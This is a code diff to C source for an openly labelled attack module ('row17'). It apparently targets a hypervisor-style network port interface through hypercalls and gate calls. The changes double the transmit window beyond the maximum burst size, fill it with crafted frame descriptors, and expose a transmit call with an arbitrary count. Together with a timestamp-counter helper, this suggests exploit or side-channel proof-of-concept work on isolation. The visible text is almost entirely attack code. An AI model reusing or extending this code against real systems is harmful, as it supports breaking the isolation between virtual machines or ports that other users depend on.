@@ -5,6 +5,7 @@
 #include "row17.h"
 
 #define WINDOW 0x4000 /* of queue 1, in the port's memory */
+#define WINDOW_SIZE (2 * ELISA_MAX_BURST)
 #define RING 0x6000
 #define FRAME 0x10000 /* 64 KiB */
 #define FRAME_LENGTH 65000
@@ -22,14 +23,14 @@ static int64_t set_flags(const struct port *port, uint32_t flags)
 	return hypercall(ELISA_HC_PORT_SET, &set, sizeof(set));
 }
 
-/* A second queue with a window for the largest burst; the receivers take what is for nobody. */
+/* A second queue with a window for twice the largest burst; the receivers take what is for nobody. */
 ATTACK_FUNCTION int64_t row17_open(void)
 {
 	struct elisa_hc_queue queue = {.port = attacker_port.number,
 				       .queue = 1,
 				       .tx_window = (uintptr_t)attacker_port.base + WINDOW,
 				       .rx_ring = (uintptr_t)attacker_port.base + RING,
-				       .tx_size = ELISA_MAX_BURST,
+				       .tx_size = WINDOW_SIZE,
 				       .rx_size = ELISA_MIN_RING};
 
 	if (set_flags(&attacker_port, 0) ||
@@ -91,16 +92,21 @@ ATTACK_FUNCTION int64_t row17_prepare(uint64_t kind)
 		frame[12] = PORT_ETHER_TYPE >> 8;
 		frame[13] = PORT_ETHER_TYPE & 0xff;
 	}
-	for (uint32_t i = 0; i < ELISA_MAX_BURST; i++) {
+	for (uint32_t i = 0; i < WINDOW_SIZE; i++) {
 		window[i].addr = (uintptr_t)frame;
 		window[i].word = word;
 	}
 	return 0;
 }
 
+ATTACK_FUNCTION int64_t row17_call(uint64_t count)
+{
+	return gate_call(ELISA_CALL_TX, attacker_port.number | 1 << 16, count);
+}
+
 static int64_t call(void)
 {
-	return gate_call(ELISA_CALL_TX, attacker_port.number | 1 << 16, ELISA_MAX_BURST);
+	return row17_call(ELISA_MAX_BURST);
 }
 
 static uint64_t rdtsc(void)
